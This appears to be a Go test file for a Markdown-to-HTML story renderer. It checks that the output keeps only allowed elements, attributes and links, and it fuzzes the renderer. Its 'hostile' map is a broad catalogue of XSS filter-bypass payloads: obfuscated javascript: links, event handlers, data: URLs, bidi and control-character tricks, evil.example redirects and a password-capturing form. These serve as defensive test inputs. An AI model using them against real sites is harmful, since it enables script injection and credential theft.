package story_test

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"countyboard/data"
	"countyboard/data/lang"
	"countyboard/data/story"
	"countyboard/data/vocab"

	"golang.org/x/net/html"
)

// header is a whole one; what is tried is written behind it.
const header = "---\ntitle: t\npublished: 2024-10-17\nplace: 512022\n---\n"

// attributes are those that each element of a story may have; others have none.
var attributes = map[string][]string{
	"a":    {"class", "id", "href", "rel", "data-outcome", "data-illustrative"},
	"sup":  {"role", "aria-label"},
	"data": {"class", "value", "title"}, "small": {"class"}, "span": {"class", "title"}, "figure": {"class", "data-chart"},
	"p": nil, "h1": nil, "h2": nil, "h3": nil, "h4": nil, "ul": nil, "ol": nil, "li": nil, "blockquote": nil, "strong": nil, "em": nil, "del": nil, "br": nil, "hr": nil,
	"code": nil, "pre": nil, "table": nil, "thead": nil, "tbody": nil, "tr": nil, "th": nil, "td": nil,
}

var (
	classes    = []string{"claim", "live", "live-when", "live-missing", "story-chart"}
	claimID    = regexp.MustCompile(`^claim-\d+$`)
	hasScheme  = regexp.MustCompile(`^[a-z][a-z0-9+.-]*:`)
	ownAddress = regexp.MustCompile(`^#verdict-\d+$|^/charts/[a-z0-9-]+(\?|$)`)
)

// faults says what in a story's HTML should not be there, as a browser reads it.
func faults(page string) (all []string) {
	doc, err := html.Parse(strings.NewReader("<!doctype html><html><head></head><body>" + page))
	if err != nil {
		return []string{err.Error()}
	}
	ids := make(map[string]bool)
	for n := range doc.Descendants() {
		switch n.Type {
		case html.TextNode:
			if strings.ContainsFunc(n.Data, hidden) {
				all = append(all, "a control in "+n.Data)
			}
			continue
		case html.CommentNode:
			all = append(all, "a comment: "+n.Data)
		}
		if n.Type != html.ElementNode || slices.Contains([]string{"html", "head", "body"}, n.Data) && len(n.Attr) == 0 {
			continue
		}
		known, ok := attributes[n.Data]
		if !ok || n.Namespace != "" {
			all = append(all, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			if !slices.Contains(known, a.Key) || a.Namespace != "" || strings.ContainsFunc(a.Val, hidden) ||
				a.Key == "class" && !slices.Contains(classes, a.Val) ||
				a.Key == "id" && (!claimID.MatchString(a.Val) || ids[a.Val]) ||
				a.Key == "href" && !leadsWell(n, a.Val) {
				all = append(all, "<"+n.Data+" "+a.Key+"="+a.Val+">")
			}
			ids[a.Val] = ids[a.Val] || a.Key == "id"
		}
	}
	return append(all, anchorsInAnchors(page)...)
}

// anchorsInAnchors are looked for before a browser mends them.
func anchorsInAnchors(page string) []string {
	z, open := html.NewTokenizer(strings.NewReader(page)), 0
	for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
		switch name, _ := z.TagName(); {
		case string(name) != "a":
		case kind == html.StartTagToken:
			if open++; open > 1 {
				return []string{"a link in a link"}
			}
		case kind == html.EndTagToken:
			open--
		}
	}
	return nil
}

func hidden(r rune) bool {
	return unicode.IsControl(r) && r != '\n' && r != '\t' || unicode.Is(unicode.Bidi_Control, r)
}

// leadsWell reads an address as browsers do: without tabs and line breaks, with \ for /.
func leadsWell(n *html.Node, address string) bool {
	if ownAddress.MatchString(address) {
		return true
	}
	s := strings.ToLower(strings.NewReplacer("\t", "", "\n", "", "\r", "", `\`, "/").Replace(strings.TrimLeft(address, " \x00\x01\x02\x03\x1f")))
	if strings.HasPrefix(s, "//") {
		return false
	}
	if scheme := hasScheme.FindString(s); scheme != "" && scheme != "http:" && scheme != "https:" {
		return false
	}
	return slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "rel" && strings.Contains(a.Val, "noopener") })
}

// hostile are texts that want to be more than text. As words they may stand.
var hostile = map[string]string{
	"script":           "<script>alert(1)</script>\n\n<ScRiPt src=//evil.example></sCrIpT>\n\n<script\n>alert(1)</script\n>",
	"handlers":         "<p onclick=alert(1)>a</p> <b onmouseover='alert(1)'>b</b> <body onload=alert(1)>",
	"frames":           "<iframe src=https://evil.example></iframe>\n\n<frame src=x><object data=x></object><embed src=x>",
	"forms":            "<form action=https://evil.example><input name=password><button>x</button></form>",
	"meta and base":    "<meta http-equiv=refresh content='0;url=https://evil.example'>\n\n<base href=https://evil.example>\n\n<link rel=stylesheet href=//evil.example>",
	"SVG and MathML":   "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>\n\n<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
	"style":            "<style>@import '//evil.example'</style>\n\n<p style='background:url(//evil.example)'>a</p>",
	"raw HTML":         "<div id=claim-1 class=claim><a href=javascript:alert(1)>x</a><img src=x onerror=alert(1)></div>",
	"comment":          "<!-- <script> --> <!--> <script>alert(1)</script> --> <![CDATA[<script>]]> <?php x ?> <!DOCTYPE x>",
	"javascript":       "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\tscript:alert(1)>) [d](<java\nscript:alert(1)>) [e](\x01javascript:alert(1))",
	"entities":         "[a](&#106;avascript:alert(1)) [b](&#x6A;avascript:alert(1)) [c](javascript&colon;alert(1)) [d](java&Tab;script:alert(1)) [e](java&NewLine;script:alert(1)) [f](&#0000106avascript:x)",
	"escapes":          `[a](\javascript:alert(1)) [b](javascript\:alert(1)) [c](%6Aavascript:alert(1)) [d](javascript%3Aalert(1))`,
	"unicode":          "[a](ｊavascript:alert(1)) [b](javascript：alert(1)) [c](\u200bjavascript:alert(1)) [d](\u00a0javascript:alert(1)) [e](java\u00adscript:alert(1)) [f](ſcript:x)",
	"other schemes":    "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) [e](DATA:text/html;base64,PHNjcmlwdD4=) [f](view-source:x) [g](intent://x)",
	"autolinks":        "<javascript:alert(1)> <data:text/html,x> <claim:output?kind=none> <https://ok.example/?a=1&b=\"2> <a@b.example>",
	"other sites":      `[a](//evil.example) [b](\\evil.example) [c](/\evil.example) [d](\/evil.example) [e](</	/evil.example>) [f](https:evil.example) [g](///evil.example) [h](&#47;/evil.example)`,
	"images":           "![a](https://evil.example/x.png) ![b](x.png) ![c](data:image/svg+xml,<svg onload=alert(1)>) ![d](javascript:x) ![\" onerror=\"alert(1)](x)",
	"titles":           "[a](https://ok.example \"\\\" onclick=alert(1) x=\\\"\") [b](https://ok.example '\"><script>alert(1)</script>') ![c](x \"\\\" onerror=\\\"x\")",
	"claims":           "[<script>alert(2)</script>](claim:output?kind=none&place=512022&why=%22%3E%3Cscript%3E) [\"><b>](value:output?place=512022) [&lt;img src=x&gt;](value:output?place=512022&group=cluster/%3Cb%3E)",
	"charts":           "![\" onload=\"alert(1)](chart:output?place=%22%3E%3Cscript%3E)\n\n# ![c](chart:output)\n\n**![d](chart:output)** [e](chart:output) text\n\n|![f](chart:output)|\n|-|\n|![g](chart:output)|",
	"clashing ids":     "# claim-1 {#claim-1}\n\n## verdict-1\n\n[a](claim:output?kind=none&place=512022&why=x) <a id=claim-1>\n\n# A {#claim-1 .claim onclick=alert(1)}",
	"footnotes":        "a[^1] b[^claim-1]\n\n[^1]: <script>alert(1)</script>\n[^claim-1]: javascript:alert(1)",
	"references":       "[a][x] [b][y] ![c][z]\n\n[x]: javascript:alert(1)\n[y]: <data:text/html,x> \"t\"\n[z]: //evil.example",
	"NUL and controls": "a\x00b <\x00script>alert(1)</script> [c](java\x00script:alert(1)) \x1b[31m \x7f \u0085",
	"bidi":             "\u202e002\u202c \u2066x\u2069 [\u202e002\u202c](claim:output?kind=none&place=512022&why=x) &#x202e;002 [\u200f\u061ca](https://ok.example/\u202e)",
	"unclosed":         "[a](claim:output?kind=none&place=512022&why=x\n\n[b](https://ok.example\n\n[c](<https://ok.example\n\n[d][\n\n![e](chart:output\n\n`<script>\n\n```html\n<script>alert(1)</script>",
	"code":             "`<script>`\n\n    <script>alert(1)</script>\n\n```\" onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
	"figures in words": "<p><figure></figure></p> &lt;p&gt;&lt;figure class=\"story-chart\" data-chart=x&gt;",
}

// unread judges by a store without figures.
func unread(t testing.TB) story.Judge {
	t.Helper()
	return story.Judge{Reader: open(t), Names: vocab.Embedded()}
}

func TestHostileMarkdownIsText(t *testing.T) {
	t.Parallel()
	j := unread(t)
	for name, body := range hostile {
		s, err := story.Parse("s", []byte(header+body))
		if err != nil {
			if name != "unclosed" && name != "charts" || data.CodeOf(err) != data.Invalid { // a broken claim is refused, and a chart within other marks
				t.Errorf("%s: %v", name, err)
			}
			s = data.Story{Slug: "s", Title: "t", Place: "512022", Published: time.Now(), Body: strings.ReplaceAll(body, "[a](claim:", "[a](x:")}
		}
		r, err := j.Render(t.Context(), s, data.AsOf{}, lang.ZhHans)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		for _, f := range faults(r.HTML) {
			t.Errorf("%s: the page holds %s", name, f)
		}
		if n := strings.Count(r.HTML, `class="claim"`); n != len(r.Verdicts) {
			t.Errorf("%s: %d verdicts, %d claims on the page", name, len(r.Verdicts), n)
		}
	}
}

// TestHostileWordsStay: what is no markup is not lost; what leads to other sites by a
// plain address may.
func TestHostileWordsStay(t *testing.T) {
	t.Parallel()
	j := unread(t)
	for body, want := range map[string]string{
		hostile["claims"]:                      "alert(2)",
		"[words](javascript:alert(1))":         "<p>words</p>",
		"[words](&#106;avascript:alert(1))":    "<p>words</p>",
		"<javascript:alert(1)>":                "<p>javascript:alert(1)</p>",
		"[words](https://ok.example/?a=1&b=2)": `<a href="https://ok.example/?a=1&amp;b=2" rel="nofollow noopener">words</a>`,
		"[words](/places/512022)":              `<a href="/places/512022" rel="nofollow noopener">words</a>`,
		"<https://ok.example/a>":               `<a href="https://ok.example/a" rel="nofollow noopener">https://ok.example/a</a>`,
		"![a picture](https://ok.example/x)":   "<p>a picture</p>",
		"\u202e002\u202c 户":                    "<p>002 户</p>",
		"|a|b|\n|-|-|\n|1|2|":                  "<td>1</td>",
	} {
		s, err := story.Parse("s", []byte(header+body))
		if err != nil {
			t.Errorf("%s: %v", body, err)
			continue
		}
		r, err := j.Render(t.Context(), s, data.AsOf{}, lang.ZhHans)
		if err != nil || !strings.Contains(r.HTML, want) {
			t.Errorf("%s becomes %s, want %s; %v", body, r.HTML, want, err)
		}
	}
}

func TestLinksWithinLinksAreRefused(t *testing.T) {
	t.Parallel()
	const claim = "(claim:output?kind=none&place=512022&why=x)"
	for _, body := range []string{"[![c](chart:output)](https://ok.example)", "![a [b]" + claim + "](https://ok.example)", "![a [b]" + claim + "](chart:output)", "[*![c]" + claim + "*](/x)"} {
		if _, err := story.Parse("s", []byte(header+body)); data.CodeOf(err) != data.Invalid || data.AsError(err).Message.Key != "errors.story-nested" {
			t.Errorf("%s: %v", body, err)
		}
		r, err := unread(t).Render(t.Context(), data.Story{Slug: "s", Place: "512022", Published: time.Now(), Body: body}, data.AsOf{}, lang.ZhHans)
		if bad := faults(r.HTML); err != nil || len(bad) > 0 { // one that was published before it was refused
			t.Errorf("%s: %v %v in %s", body, err, bad, r.HTML)
		}
	}
}

// FuzzRender: whatever is taken as a story becomes a page of allowed elements that
// lead to allowed places, soon, and no claim is lost.
func FuzzRender(f *testing.F) {
	for _, body := range hostile {
		f.Add(body)
	}
	f.Add("[a](claim:output?kind=level&place=512022&group=" + url.QueryEscape("cluster/铝材,size/规上") + "&period=2024-01/P9M&op=eq&value=26.8&unit=亿元)\n\n[b](value:output?place=512022&period=latest)\n\n![c](chart:output)")
	f.Add("> - 1. a\n>   - b\n\n|a|b|\n|:-|-:|\n|[x](y)|~~c~~|")
	j := unread(f)
	f.Fuzz(func(t *testing.T, body string) {
		began := time.Now()
		s, err := story.Parse("s", []byte(header+body))
		if err != nil {
			if data.CodeOf(err) == data.Internal {
				t.Error(err)
			}
			s = data.Story{Slug: "s", Title: "t", Place: "512022", Published: time.Now(), Body: body}
		}
		r, errRender := j.Render(t.Context(), s, data.AsOf{}, lang.ZhHans)
		if errRender != nil {
			if err == nil || data.CodeOf(errRender) == data.Internal {
				t.Errorf("taken (%v), then refused: %v", err, errRender)
			}
			return
		}
		for _, bad := range faults(r.HTML) {
			t.Errorf("the page holds %s: %s", bad, r.HTML)
		}
		if n := strings.Count(r.HTML, `class="claim"`); err == nil && n != len(r.Verdicts) {
			t.Errorf("%d verdicts, %d claims on the page: %s", len(r.Verdicts), n, r.HTML)
		}
		if took := time.Since(began); took > 5*time.Second {
			t.Errorf("%d bytes take %s", len(body), took)
		}
	})
}
